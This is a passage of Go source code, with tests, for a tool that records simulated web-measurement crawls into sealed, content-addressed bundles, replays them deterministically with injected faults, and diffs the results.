	if err := r.Spool.SpoolBody(sha, content); err != nil {
		r.spoolErrors++
	}
}

// SpoolErrors reports how many spool appends failed (the in-memory bundle is
// unaffected; the durable copy is missing those records).
func (r *Recorder) SpoolErrors() int { return r.spoolErrors }

// WrapTransport implements openwpm.Recorder.
func (r *Recorder) WrapTransport(rt httpsim.RoundTripper) httpsim.RoundTripper {
	return &recorderTransport{rec: r, next: rt}
}

// recorderTransport records every round trip. It always advertises the
// StorageFault capability: delegating to the wrapped transport when present,
// archiving each drop decision either way, so replays can reproduce the
// exact storage losses of a faulted crawl.
type recorderTransport struct {
	rec  *Recorder
	next httpsim.RoundTripper
}

// RoundTrip archives the exchange and passes the result through unchanged —
// the browser type-asserts fault metadata on the raw error, so errors must
// not be wrapped here.
func (t *recorderTransport) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	resp, err := t.next.RoundTrip(req)
	e := Exchange{
		Method: req.Method,
		URL:    req.URL,
		Type:   string(req.Type),
		TopURL: req.TopURL,
	}
	if err != nil {
		e.Err = err.Error()
		e.ErrClass = faults.Classify(err).String()
		if vc, ok := err.(interface{ VirtualCost() float64 }); ok {
			e.ErrSeconds = vc.VirtualCost()
		}
		if ab, ok := err.(interface{ AbortsVisit() bool }); ok {
			e.ErrAborts = ab.AbortsVisit()
		}
	} else if resp != nil {
		e.Status = resp.Status
		e.Headers = resp.Headers
		e.SetCookies = resp.SetCookies
		e.DelaySeconds = resp.DelaySeconds
		if resp.Body != "" {
			e.BodySHA = t.rec.intern(resp.Body)
		}
	}
	t.rec.pendingExchanges = append(t.rec.pendingExchanges, e)
	return resp, err
}

// StorageFault implements the storage fault hook, archiving the decision.
func (t *recorderTransport) StorageFault(table string) bool {
	r := t.rec
	r.writeSeq[table]++
	drop := false
	if sf, ok := t.next.(interface{ StorageFault(table string) bool }); ok {
		drop = sf.StorageFault(table)
	}
	if drop {
		r.drops[table] = append(r.drops[table], r.writeSeq[table])
	}
	return drop
}

// ObserveVisit closes out the current page: everything buffered since the
// previous visit row rode along with this one.
func (r *Recorder) ObserveVisit(rec openwpm.VisitRecord) {
	v := Visit{
		Record:        rec,
		Exchanges:     r.pendingExchanges,
		JSCalls:       r.pendingJSCalls,
		Cookies:       r.pendingCookies,
		Scripts:       r.pendingScripts,
		Tampers:       r.pendingTampers,
		StorageWrites: r.visitWrites(),
	}
	r.visits = append(r.visits, v)
	if r.Spool != nil {
		if err := r.Spool.SpoolVisit(v); err != nil {
			r.spoolErrors++
		}
	}
	r.pendingExchanges = nil
	r.pendingJSCalls = nil
	r.pendingCookies = nil
	r.pendingScripts = nil
	r.pendingTampers = nil
}

// visitWrites snapshots the per-table fault-filter consultations consumed
// since the previous visit row; nil when the visit wrote nothing.
func (r *Recorder) visitWrites() map[string]int {
	var out map[string]int
	for table, seq := range r.writeSeq {
		d := seq - r.lastWriteSeq[table]
		if d == 0 {
			continue
		}
		if out == nil {
			out = map[string]int{}
		}
		out[table] = d
		r.lastWriteSeq[table] = seq
	}
	return out
}

// ObserveCrash archives a browser-restart row (crashes happen mid-visit, so
// they keep their own table rather than a per-visit buffer).
func (r *Recorder) ObserveCrash(rec openwpm.CrashRecord) {
	r.crashes = append(r.crashes, rec)
}

// ObserveRequest is a no-op: the transport wrapper sees the same traffic
// with bodies and fault metadata the request table lacks.
func (r *Recorder) ObserveRequest(openwpm.RequestRecord) {}

// ObserveCookie buffers a cookie row for the current visit.
func (r *Recorder) ObserveCookie(c openwpm.CookieEntry) {
	r.pendingCookies = append(r.pendingCookies, c)
}

// ObserveJSCall buffers a JS-call row for the current visit.
func (r *Recorder) ObserveJSCall(c openwpm.JSCall) {
	r.pendingJSCalls = append(r.pendingJSCalls, c)
}

// ObserveScriptFile buffers a stored script body for the current visit.
func (r *Recorder) ObserveScriptFile(url, sha, content, ctype string) {
	if _, ok := r.bodies[sha]; !ok {
		r.bodies[sha] = content
		r.spoolBody(sha, content)
	}
	r.pendingScripts = append(r.pendingScripts, ScriptRef{URL: url, SHA: sha, CType: ctype})
}

// ObserveTamperReport buffers a static-analysis record for the current
// visit. Records are derived purely from script content, so a replay with
// the same analyser reproduces them byte-for-byte.
func (r *Recorder) ObserveTamperReport(rec openwpm.TamperRecord) {
	r.pendingTampers = append(r.pendingTampers, rec)
}

// Finalize assembles and seals the bundle for a finished crawl. cfg should
// be the task manager's effective configuration (tm.Cfg) so defaulted fields
// are archived as they ran.
func (r *Recorder) Finalize(cfg openwpm.CrawlConfig, sites []string, report *openwpm.CrawlReport) (*Bundle, error) {
	b := &Bundle{
		Manifest: Manifest{Format: Format, Tool: Tool, Meta: r.meta},
		Config:   ConfigOf(cfg),
		Sites:    append([]string(nil), sites...),
		Visits:   r.visits,
		Crashes:  r.crashes,
		Bodies:   r.bodies,
		Report:   report,
	}
	if len(r.drops) > 0 {
		b.StorageDrops = map[string][]int{}
		for table, seqs := range r.drops {
			b.StorageDrops[table] = append([]int(nil), seqs...)
			sort.Ints(b.StorageDrops[table])
		}
	}
	if err := b.Seal(); err != nil {
		return nil, err
	}
	return b, nil
}

// RecorderState is the compact resumable part of a Recorder at a site
// boundary: the storage-fault bookkeeping that cannot be rebuilt from the
// archived visits alone. Bodies, visits and crashes are recovered from the
// spooled stream; this blob rides inside checkpoint records.
type RecorderState struct {
	WriteSeq     map[string]int   `json:"writeSeq,omitempty"`
	LastWriteSeq map[string]int   `json:"lastWriteSeq,omitempty"`
	Drops        map[string][]int `json:"drops,omitempty"`
	SpoolErrors  int              `json:"spoolErrors,omitempty"`
}

// StateJSON snapshots the recorder's resumable state as JSON. Call it at a
// visit boundary (after ObserveVisit), where the pending buffers are empty.
func (r *Recorder) StateJSON() []byte {
	s := RecorderState{
		WriteSeq:     r.writeSeq,
		LastWriteSeq: r.lastWriteSeq,
		Drops:        r.drops,
		SpoolErrors:  r.spoolErrors,
	}
	out, err := json.Marshal(s)
	if err != nil {
		return nil
	}
	return out
}

// RestoreRecorder rebuilds a Recorder from recovered durable state: the
// bundle meta, the spooled body pool and visit stream, the crash rows (which
// share the storage crash table), and the RecorderState blob from the last
// checkpoint. The restored recorder continues exactly where the checkpoint
// left it — pending buffers are empty because checkpoints land on visit
// boundaries.
func RestoreRecorder(meta map[string]string, bodies map[string]string, visits []Visit, crashes []openwpm.CrashRecord, state []byte) (*Recorder, error) {
	r := NewRecorder(meta)
	for sha, content := range bodies {
		r.bodies[sha] = content
	}
	r.visits = append(r.visits, visits...)
	r.crashes = append(r.crashes, crashes...)
	if len(state) > 0 {
		var s RecorderState
		if err := json.Unmarshal(state, &s); err != nil {
			return nil, fmt.Errorf("bundle: recorder state: %w", err)
		}
		for t, n := range s.WriteSeq {
			r.writeSeq[t] = n
		}
		for t, n := range s.LastWriteSeq {
			r.lastWriteSeq[t] = n
		}
		for t, seqs := range s.Drops {
			r.drops[t] = append([]int(nil), seqs...)
		}
		r.spoolErrors = s.SpoolErrors
	}
	return r, nil
}

// RecordCrawl runs a complete crawl under recording and returns the sealed
// bundle alongside the report and task manager (whose storage callers can
// digest or inspect).
func RecordCrawl(cfg openwpm.CrawlConfig, sites []string, meta map[string]string) (*Bundle, *openwpm.CrawlReport, *openwpm.TaskManager, error) {
	rec := NewRecorder(meta)
	cfg.Recorder = rec
	tm := openwpm.NewTaskManager(cfg)
	report := tm.Crawl(sites)
	b, err := rec.Finalize(tm.Cfg, sites, report)
	if err != nil {
		return nil, nil, nil, err
	}
	return b, report, tm, nil
}
