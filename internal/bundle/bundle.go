// Package bundle implements execution bundles: self-contained, deterministic,
// content-addressed archives of a crawl. A bundle records the crawl
// configuration, every HTTP exchange (responses and injected faults alike,
// with bodies stored once in a content-addressed pool), the executed script
// files, the JS-call log, cookies and the outcome taxonomy of every page
// visit, plus the crawl report — serialised to canonical JSON with a SHA-256
// integrity digest.
//
// The point of the archive is re-execution: ReplayTransport serves a recorded
// crawl back byte-for-byte through the ordinary httpsim.RoundTripper
// interface, so any analysis, instrument configuration or stealth variant can
// be re-run offline against the archived web (Web Execution Bundles, Hantke
// et al.), and Diff compares two bundles per visit to surface nondeterminism,
// cloaking and instrument divergence as a structured report.
package bundle

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
)

// Format is the bundle schema version.
const Format = 1

// Tool identifies the producer in manifests.
const Tool = "gullible/bundle"

// Manifest is the bundle's identity block.
type Manifest struct {
	Format int    `json:"format"`
	Tool   string `json:"tool"`
	// Meta holds caller-supplied labels (world seed, fault seed, scenario
	// name). Labels are part of the digest, so they must be deterministic;
	// never put wall-clock timestamps here.
	Meta map[string]string `json:"meta,omitempty"`
}

// Config is the serialisable snapshot of the recorded crawl's configuration —
// everything needed to re-run the crawl against the archive except live
// objects (transport, stealth instrument), which the replayer reconstructs.
type Config struct {
	OS             int     `json:"os"`
	Mode           int     `json:"mode"`
	FirefoxVersion int     `json:"firefoxVersion,omitempty"`
	ClientID       string  `json:"clientID,omitempty"`
	DwellSeconds   float64 `json:"dwellSeconds,omitempty"`

	JSInstrument            bool `json:"jsInstrument,omitempty"`
	HTTPInstrument          bool `json:"httpInstrument,omitempty"`
	CookieInstrument        bool `json:"cookieInstrument,omitempty"`
	HTTPFilterJSOnly        bool `json:"httpFilterJSOnly,omitempty"`
	LegacyInstrumentGlobals bool `json:"legacyInstrumentGlobals,omitempty"`
	HoneyProps              int  `json:"honeyProps,omitempty"`
	// Stealth records that the crawl ran the hardened instrument; replays
	// must re-attach it via openwpm.CrawlConfig.Stealth (the instrument
	// itself is code, not data).
	Stealth bool `json:"stealth,omitempty"`
	// TamperAnalysis records that the crawl statically analysed stored
	// scripts; replays re-attach analysis.TamperRecorder (same code-not-data
	// rule as Stealth) so the tamper table reproduces byte-for-byte.
	TamperAnalysis bool `json:"tamperAnalysis,omitempty"`

	MaxSubpages         int  `json:"maxSubpages,omitempty"`
	SimulateInteraction bool `json:"simulateInteraction,omitempty"`
	MaxRetries          int  `json:"maxRetries,omitempty"`

	MaxVisitSeconds    float64 `json:"maxVisitSeconds,omitempty"`
	MaxCrawlSeconds    float64 `json:"maxCrawlSeconds,omitempty"`
	BackoffBaseSeconds float64 `json:"backoffBaseSeconds,omitempty"`
	BackoffMaxSeconds  float64 `json:"backoffMaxSeconds,omitempty"`
	BreakerThreshold   int     `json:"breakerThreshold,omitempty"`
	BlindRetry         bool    `json:"blindRetry,omitempty"`
}

// ConfigOf snapshots a crawl configuration.
func ConfigOf(c openwpm.CrawlConfig) Config {
	return Config{
		OS: int(c.OS), Mode: int(c.Mode), FirefoxVersion: c.FirefoxVersion,
		ClientID: c.ClientID, DwellSeconds: c.DwellSeconds,
		JSInstrument: c.JSInstrument, HTTPInstrument: c.HTTPInstrument,
		CookieInstrument: c.CookieInstrument, HTTPFilterJSOnly: c.HTTPFilterJSOnly,
		LegacyInstrumentGlobals: c.LegacyInstrumentGlobals, HoneyProps: c.HoneyProps,
		Stealth:        c.Stealth != nil,
		TamperAnalysis: c.Tamper != nil,
		MaxSubpages:    c.MaxSubpages, SimulateInteraction: c.SimulateInteraction,
		MaxRetries:      c.MaxRetries,
		MaxVisitSeconds: c.MaxVisitSeconds, MaxCrawlSeconds: c.MaxCrawlSeconds,
		BackoffBaseSeconds: c.BackoffBaseSeconds, BackoffMaxSeconds: c.BackoffMaxSeconds,
		BreakerThreshold: c.BreakerThreshold, BlindRetry: c.BlindRetry,
	}
}

// CrawlConfig reconstructs an openwpm configuration from the snapshot.
// Transport, Recorder and Stealth are left nil for the caller to supply.
func (c Config) CrawlConfig() openwpm.CrawlConfig {
	return openwpm.CrawlConfig{
		OS: jsdom.OS(c.OS), Mode: jsdom.Mode(c.Mode), FirefoxVersion: c.FirefoxVersion,
		ClientID: c.ClientID, DwellSeconds: c.DwellSeconds,
		JSInstrument: c.JSInstrument, HTTPInstrument: c.HTTPInstrument,
		CookieInstrument: c.CookieInstrument, HTTPFilterJSOnly: c.HTTPFilterJSOnly,
		LegacyInstrumentGlobals: c.LegacyInstrumentGlobals, HoneyProps: c.HoneyProps,
		MaxSubpages: c.MaxSubpages, SimulateInteraction: c.SimulateInteraction,
		MaxRetries:      c.MaxRetries,
		MaxVisitSeconds: c.MaxVisitSeconds, MaxCrawlSeconds: c.MaxCrawlSeconds,
		BackoffBaseSeconds: c.BackoffBaseSeconds, BackoffMaxSeconds: c.BackoffMaxSeconds,
		BreakerThreshold: c.BreakerThreshold, BlindRetry: c.BlindRetry,
	}
}

// Exchange is one archived HTTP round trip: a request and either its
// response (body by content hash) or the error the transport returned —
// injected faults included, with the metadata needed to replay them.
type Exchange struct {
	Method string `json:"method"`
	URL    string `json:"url"`
	Type   string `json:"type"`
	TopURL string `json:"topURL,omitempty"`

	Status       int               `json:"status,omitempty"`
	Headers      map[string]string `json:"headers,omitempty"`
	BodySHA      string            `json:"bodySHA,omitempty"`
	SetCookies   []httpsim.Cookie  `json:"setCookies,omitempty"`
	DelaySeconds float64           `json:"delaySeconds,omitempty"`

	Err        string  `json:"err,omitempty"`
	ErrClass   string  `json:"errClass,omitempty"`
	ErrSeconds float64 `json:"errSeconds,omitempty"`
	ErrAborts  bool    `json:"errAborts,omitempty"`
}

// ScriptRef points one stored script file (the HTTP instrument's content
// table) at its body in the content pool.
type ScriptRef struct {
	URL   string `json:"url"`
	SHA   string `json:"sha"`
	CType string `json:"ctype,omitempty"`
}

// Visit archives one page visit: its outcome record plus everything the
// transport and instruments captured while it ran.
type Visit struct {
	Record    openwpm.VisitRecord   `json:"record"`
	Exchanges []Exchange            `json:"exchanges,omitempty"`
	JSCalls   []openwpm.JSCall      `json:"jsCalls,omitempty"`
	Cookies   []openwpm.CookieEntry `json:"cookies,omitempty"`
	Scripts   []ScriptRef           `json:"scripts,omitempty"`
	// Tampers are the static tamper-analysis records stored during this
	// visit (one per first-seen script body, findings only).
	Tampers []openwpm.TamperRecord `json:"tampers,omitempty"`
	// StorageWrites counts, per table, the storage fault-filter
	// consultations this visit consumed. StorageDrops sequence numbers are
	// bundle-global, so merging shard bundles needs these per-visit counts
	// to renumber a shard's drops to their global positions (and a sharded
	// replay needs them to localise the global positions back).
	StorageWrites map[string]int `json:"storageWrites,omitempty"`
}

// Bundle is a complete archived crawl.
type Bundle struct {
	Manifest Manifest `json:"manifest"`
	Config   Config   `json:"config"`
	// Sites is the crawl's input URL list in visit order.
	Sites  []string `json:"sites,omitempty"`
	Visits []Visit  `json:"visits,omitempty"`
	// Crashes is the browser-restart table (crash-recovery bookkeeping).
	Crashes []openwpm.CrashRecord `json:"crashes,omitempty"`
	// StorageDrops lists, per table, the 1-based write sequence numbers the
	// storage fault injector dropped; replays reproduce the same losses.
	StorageDrops map[string][]int `json:"storageDrops,omitempty"`
	// Bodies is the content-addressed body pool: SHA-256 hex → content.
	Bodies map[string]string `json:"bodies,omitempty"`
	// Report is the crawl's final accounting.
	Report *openwpm.CrawlReport `json:"report,omitempty"`
	// Digest is the SHA-256 of the bundle's canonical JSON with this field
	// empty; Seal computes it and Verify checks it.
	Digest string `json:"digest,omitempty"`
}

// canonicalJSON renders the bundle deterministically with the digest field
// blanked. encoding/json sorts map keys and uses shortest-round-trip float
// formatting, so identical bundle values always produce identical bytes.
func (b *Bundle) canonicalJSON() ([]byte, error) {
	c := *b
	c.Digest = ""
	return json.MarshalIndent(&c, "", " ")
}

// ComputeDigest returns the SHA-256 hex of the canonical encoding.
func (b *Bundle) ComputeDigest() (string, error) {
	data, err := b.canonicalJSON()
	if err != nil {
		return "", err
	}
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:]), nil
}

// Seal computes and stores the integrity digest.
func (b *Bundle) Seal() error {
	d, err := b.ComputeDigest()
	if err != nil {
		return err
	}
	b.Digest = d
	return nil
}

// / Verify checks structural integrity: the digest matches the canonical
// encoding, every body reference resolves and hashes to its key, and the
// embedded crawl report accounts for every site.
func (b *Bundle) Verify() error {
	if b.Manifest.Format != Format {
		return fmt.Errorf("bundle: unsupported format %d (want %d)", b.Manifest.Format, Format)
	}
	if b.Digest == "" {
		return fmt.Errorf("bundle: unsealed (empty digest)")
	}
	d, err := b.ComputeDigest()
	if err != nil {
		return err
	}
	if d != b.Digest {
		return fmt.Errorf("bundle: digest mismatch: manifest %s, computed %s", b.Digest, d)
	}
	for sha, body := range b.Bodies {
		sum := sha256.Sum256([]byte(body))
		if hex.EncodeToString(sum[:]) != sha {
			return fmt.Errorf("bundle: body pool corrupted at %s", sha)
		}
	}
	for _, v := range b.Visits {
		for _, e := range v.Exchanges {
			if e.BodySHA != "" {
				if _, ok := b.Bodies[e.BodySHA]; !ok {
					return fmt.Errorf("bundle: exchange %s %s references missing body %s", e.Method, e.URL, e.BodySHA)
				}
			}
		}
		for _, s := range v.Scripts {
			if _, ok := b.Bodies[s.SHA]; !ok {
				return fmt.Errorf("bundle: script %s references missing body %s", s.URL, s.SHA)
			}
		}
	}
	if b.Report != nil && !b.Report.Accounted() {
		return fmt.Errorf("bundle: crawl report does not account for every site")
	}
	return nil
}

// Marshal encodes the sealed bundle as canonical JSON (digest included).
func (b *Bundle) Marshal() ([]byte, error) {
	return json.MarshalIndent(b, "", " ")
}

// Unmarshal decodes a bundle. A byte stream that ends mid-document (the
// signature of an interrupted write) gets a truncation diagnostic rather than
// a bare syntax error, so `wpmbundle verify` can say what actually happened.
func Unmarshal(data []byte) (*Bundle, error) {
	var b Bundle
	if err := json.Unmarshal(data, &b); err != nil {
		if len(data) == 0 {
			return nil, fmt.Errorf("bundle: file is empty — likely an interrupted write; recover the crawl from its WAL and re-merge")
		}
		var syn *json.SyntaxError
		if errors.As(err, &syn) && syn.Offset >= int64(len(data)) {
			return nil, fmt.Errorf("bundle: file appears truncated after %d bytes: %w — likely an interrupted write; recover the crawl from its WAL and re-merge", len(data), err)
		}
		return nil, fmt.Errorf("bundle: decode: %w", err)
	}
	return &b, nil
}

// WriteFile seals (if needed) and writes the bundle to path.
func (b *Bundle) WriteFile(path string) error {
	if b.Digest == "" {
		if err := b.Seal(); err != nil {
			return err
		}
	}
	data, err := b.Marshal()
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}

// ReadFile loads and verifies a bundle from path.
func ReadFile(path string) (*Bundle, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	b, err := Unmarshal(data)
	if err != nil {
		return nil, err
	}
	if err := b.Verify(); err != nil {
		return nil, err
	}
	return b, nil
}

// Stats summarises a bundle for human output.
func (b *Bundle) Stats() string {
	exchanges, calls, cookies := 0, 0, 0
	for _, v := range b.Visits {
		exchanges += len(v.Exchanges)
		calls += len(v.JSCalls)
		cookies += len(v.Cookies)
	}
	return fmt.Sprintf("bundle: %d sites, %d visits, %d exchanges, %d bodies, %d js calls, %d cookies, %d crashes",
		len(b.Sites), len(b.Visits), exchanges, len(b.Bodies), calls, cookies, len(b.Crashes))
}
