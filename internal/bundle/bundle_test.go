package bundle

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"

	"gullible/internal/faults"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/websim"
)

// testConfig is a small instrumented crawl against a fresh synthetic world.
func testConfig(seed int64, numSites int) (openwpm.CrawlConfig, []string) {
	world := websim.New(websim.Options{Seed: seed, NumSites: numSites, AvailabilityAttacks: true})
	cfg := openwpm.CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport: world, ClientID: "bundle-test-client",
		DwellSeconds: 5,
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
		HoneyProps:  2,
		MaxSubpages: 2,
	}
	return cfg, websim.Tranco(numSites)
}

// faultedConfig layers a seeded fault injector over the world.
func faultedConfig(seed, faultSeed int64, numSites int) (openwpm.CrawlConfig, []string) {
	cfg, urls := testConfig(seed, numSites)
	world := cfg.Transport.(*websim.World)
	inj := faults.NewInjector(faultSeed, faults.DefaultProfile(), world)
	inj.RankOf = func(u string) int { return websim.RankOf(httpsim.Host(u)) }
	cfg.Transport = inj
	cfg = cfg.Hardened()
	return cfg, urls
}

// recordReplay replays b under identical configuration, recording the replay
// into a second bundle for comparison.
func recordReplay(t *testing.T, b *Bundle) (*Bundle, *openwpm.CrawlReport, *openwpm.TaskManager) {
	t.Helper()
	rec := NewRecorder(b.Manifest.Meta)
	rep, tm, rt := ReplayCrawl(b, MissFail, func(cfg *openwpm.CrawlConfig) { cfg.Recorder = rec })
	if rt.Misses != 0 {
		t.Fatalf("identity replay had %d transport misses (want 0)", rt.Misses)
	}
	b2, err := rec.Finalize(tm.Cfg, b.Sites, rep)
	if err != nil {
		t.Fatalf("finalize replay bundle: %v", err)
	}
	return b2, rep, tm
}

func TestBundleGoldenDeterminism(t *testing.T) {
	// same seed + same site list ⇒ byte-identical bundle and digest
	record := func() ([]byte, string, string) {
		cfg, urls := testConfig(11, 6)
		b, _, tm, err := RecordCrawl(cfg, urls, map[string]string{"seed": "11"})
		if err != nil {
			t.Fatalf("record: %v", err)
		}
		data, err := b.Marshal()
		if err != nil {
			t.Fatalf("marshal: %v", err)
		}
		return data, b.Digest, tm.Storage.Digest()
	}
	d1, dig1, sd1 := record()
	d2, dig2, sd2 := record()
	if !bytes.Equal(d1, d2) {
		t.Fatalf("two identical recordings produced different bytes (%d vs %d)", len(d1), len(d2))
	}
	if dig1 != dig2 {
		t.Fatalf("bundle digests differ: %s vs %s", dig1, dig2)
	}
	if sd1 != sd2 {
		t.Fatalf("storage digests differ: %s vs %s", sd1, sd2)
	}
	if dig1 == "" {
		t.Fatal("sealed bundle has empty digest")
	}
}

func TestBundleFileRoundTripAndVerify(t *testing.T) {
	cfg, urls := testConfig(7, 4)
	b, _, _, err := RecordCrawl(cfg, urls, map[string]string{"scenario": "verify"})
	if err != nil {
		t.Fatalf("record: %v", err)
	}
	path := filepath.Join(t.TempDir(), "crawl.bundle.json")
	if err := b.WriteFile(path); err != nil {
		t.Fatalf("write: %v", err)
	}
	got, err := ReadFile(path)
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	if got.Digest != b.Digest {
		t.Fatalf("digest changed across file round trip: %s vs %s", got.Digest, b.Digest)
	}
	if d := Diff(b, got); !d.Empty() {
		t.Fatalf("file round trip changed bundle content:\n%s", d)
	}

	// tampering with archived content must fail verification
	data, _ := os.ReadFile(path)
	tampered := bytes.Replace(data, []byte("navigator"), []byte("navigatox"), 1)
	if bytes.Equal(tampered, data) {
		t.Skip("no tamperable token in bundle")
	}
	bad := filepath.Join(t.TempDir(), "tampered.bundle.json")
	os.WriteFile(bad, tampered, 0o644)
	if _, err := ReadFile(bad); err == nil {
		t.Fatal("tampered bundle passed verification")
	}

	// an unsealed bundle must not verify
	unsealed := *b
	unsealed.Digest = ""
	if err := unsealed.Verify(); err == nil {
		t.Fatal("unsealed bundle passed verification")
	}
}

func TestRecordReplayIdentity(t *testing.T) {
	cfg, urls := testConfig(23, 6)
	b, rep, tm, err := RecordCrawl(cfg, urls, nil)
	if err != nil {
		t.Fatalf("record: %v", err)
	}
	b2, rep2, tm2 := recordReplay(t, b)

	if rep.String() != rep2.String() {
		t.Fatalf("replayed crawl report differs:\n--- recorded\n%s--- replayed\n%s", rep, rep2)
	}
	if d1, d2 := tm.Storage.Digest(), tm2.Storage.Digest(); d1 != d2 {
		t.Fatalf("replayed storage digest differs: %s vs %s", d1, d2)
	}
	if d := Diff(b, b2); !d.Empty() {
		t.Fatalf("replay bundle differs from recording:\n%s", d)
	}
}

func TestRecordReplayIdentityUnderFaults(t *testing.T) {
	cfg, urls := faultedConfig(41, 97, 8)
	b, rep, tm, err := RecordCrawl(cfg, urls, map[string]string{"faults": "default"})
	if err != nil {
		t.Fatalf("record: %v", err)
	}
	if rep.Failed+rep.Salvaged+rep.Restarts == 0 {
		t.Fatalf("fault profile injected nothing; pick different seeds (report: %s)", rep)
	}
	b2, rep2, tm2 := recordReplay(t, b)

	if rep.String() != rep2.String() {
		t.Fatalf("faulted replay report differs:\n--- recorded\n%s--- replayed\n%s", rep, rep2)
	}
	if d1, d2 := tm.Storage.Digest(), tm2.Storage.Digest(); d1 != d2 {
		t.Fatalf("faulted replay storage digest differs: %s vs %s", d1, d2)
	}
	if tm.Storage.DroppedTotal() != tm2.Storage.DroppedTotal() {
		t.Fatalf("dropped writes differ: %d vs %d", tm.Storage.DroppedTotal(), tm2.Storage.DroppedTotal())
	}
	if d := Diff(b, b2); !d.Empty() {
		t.Fatalf("faulted replay bundle differs from recording:\n%s", d)
	}
}

func TestReplayMissPolicies(t *testing.T) {
	cfg, urls := testConfig(5, 3)
	b, _, _, err := RecordCrawl(cfg, urls, nil)
	if err != nil {
		t.Fatalf("record: %v", err)
	}
	unrecorded := &httpsim.Request{Method: "GET", URL: "https://never-crawled.example/x", Type: httpsim.TypeScript}

	rt := NewReplayTransport(b, MissFail, nil)
	if _, err := rt.RoundTrip(unrecorded); err == nil {
		t.Fatal("MissFail served an unrecorded request")
	} else if faults.Classify(err) != faults.ClassPermanent {
		t.Fatalf("MissFail error class = %v, want permanent", faults.Classify(err))
	}

	rt = NewReplayTransport(b, MissSynthesize404, nil)
	resp, err := rt.RoundTrip(unrecorded)
	if err != nil || resp.Status != 404 {
		t.Fatalf("MissSynthesize404 = (%v, %v), want empty 404", resp, err)
	}

	served := false
	fallback := httpsim.RoundTripperFunc(func(*httpsim.Request) (*httpsim.Response, error) {
		served = true
		return &httpsim.Response{Status: 200, Body: "live"}, nil
	})
	rt = NewReplayTransport(b, MissPassthrough, fallback)
	resp, err = rt.RoundTrip(unrecorded)
	if err != nil || !served || resp.Body != "live" {
		t.Fatalf("MissPassthrough did not forward to fallback (resp=%v err=%v served=%t)", resp, err, served)
	}
	if rt.Misses != 1 {
		t.Fatalf("Misses = %d, want 1", rt.Misses)
	}

	// recorded requests still hit
	first := b.Visits[0].Exchanges[0]
	req := &httpsim.Request{Method: first.Method, URL: first.URL, TopURL: first.TopURL}
	if _, err := rt.RoundTrip(req); err != nil {
		t.Fatalf("recorded request missed: %v", err)
	}
	if rt.Hits != 1 {
		t.Fatalf("Hits = %d, want 1", rt.Hits)
	}
}

func TestParseMissPolicy(t *testing.T) {
	for name, want := range map[string]MissPolicy{
		"fail": MissFail, "passthrough": MissPassthrough,
		"synthesize-404": MissSynthesize404, "404": MissSynthesize404,
	} {
		got, err := ParseMissPolicy(name)
		if err != nil || got != want {
			t.Fatalf("ParseMissPolicy(%q) = (%v, %v), want %v", name, got, err, want)
		}
	}
	if _, err := ParseMissPolicy("bogus"); err == nil {
		t.Fatal("ParseMissPolicy accepted bogus policy")
	}
}

func TestDiffFlagsVariantDivergence(t *testing.T) {
	cfg, urls := testConfig(31, 5)
	b, _, _, err := RecordCrawl(cfg, urls, nil)
	if err != nil {
		t.Fatalf("record: %v", err)
	}
	// replay with the JS instrument's honey properties removed: property
	// iterators stop touching bait symbols, so JS-call tallies must diverge
	rec := NewRecorder(nil)
	rep, tm, _ := ReplayCrawl(b, MissSynthesize404, func(c *openwpm.CrawlConfig) {
		c.HoneyProps = 0
		c.Recorder = rec
	})
	b2, err := rec.Finalize(tm.Cfg, b.Sites, rep)
	if err != nil {
		t.Fatalf("finalize: %v", err)
	}
	d := Diff(b, b2)
	if d.Empty() {
		t.Fatal("variant replay produced an empty diff")
	}
	if len(d.ConfigChanges) == 0 {
		t.Fatalf("diff did not surface the config change:\n%s", d)
	}
	if d.String() == "" || d.String() == "bundles identical\n" {
		t.Fatalf("diff rendering broken:\n%q", d.String())
	}
}
