package bundle

import (
	"fmt"
	"sort"
	"strings"
)

// DiffReport is the structured comparison of two bundles: per-visit request,
// body, JS-symbol, cookie and outcome deltas, plus crawl-level divergence.
// It is how nondeterminism, cloaking and instrument divergence surface as
// data rather than anecdote.
type DiffReport struct {
	// ConfigChanges lists configuration fields that differ, as
	// "field: a → b" strings in sorted order.
	ConfigChanges []string
	// ReportsDiffer is set when the two crawl reports render differently.
	ReportsDiffer bool
	// CrashesA and CrashesB count browser restarts on each side.
	CrashesA, CrashesB int
	// OnlyInA and OnlyInB list visit keys present on one side only.
	OnlyInA, OnlyInB []string
	// Visits holds the per-visit comparisons that found differences;
	// identical visits are omitted.
	Visits []VisitDiff
}

// VisitDiff compares one visit present in both bundles.
type VisitDiff struct {
	// Key identifies the visit: "site|page|occurrence".
	Key string
	// OutcomeA and OutcomeB summarise the visit outcome when it changed
	// ("ok", "salvaged", or the error class), empty when identical.
	OutcomeA, OutcomeB string
	// RequestsOnlyInA and RequestsOnlyInB list "METHOD url" keys whose
	// request counts differ (a request fetched twice on one side and once
	// on the other appears here too).
	RequestsOnlyInA, RequestsOnlyInB []string
	// BodyChanged lists URLs served with different body digests.
	BodyChanged []string
	// StatusChanged lists "METHOD url: a → b" status deltas.
	StatusChanged []string
	// JSSymbols lists per-symbol call-count deltas.
	JSSymbols []SymbolDelta
	// CookiesOnlyInA and CookiesOnlyInB list "domain:name" cookie keys
	// whose store counts differ.
	CookiesOnlyInA, CookiesOnlyInB []string
	// TampersOnlyInA and TampersOnlyInB list "sha:rule:line:detail" static
	// tamper findings present on one side only — a replay that analyses the
	// same bodies must reproduce these byte-for-byte.
	TampersOnlyInA, TampersOnlyInB []string
}

// SymbolDelta is one JS symbol whose recorded call count changed.
type SymbolDelta struct {
	Symbol string
	A, B   int
}

// empty reports whether the visit comparison found nothing.
func (v *VisitDiff) empty() bool {
	return v.OutcomeA == "" && v.OutcomeB == "" &&
		len(v.RequestsOnlyInA) == 0 && len(v.RequestsOnlyInB) == 0 &&
		len(v.BodyChanged) == 0 && len(v.StatusChanged) == 0 &&
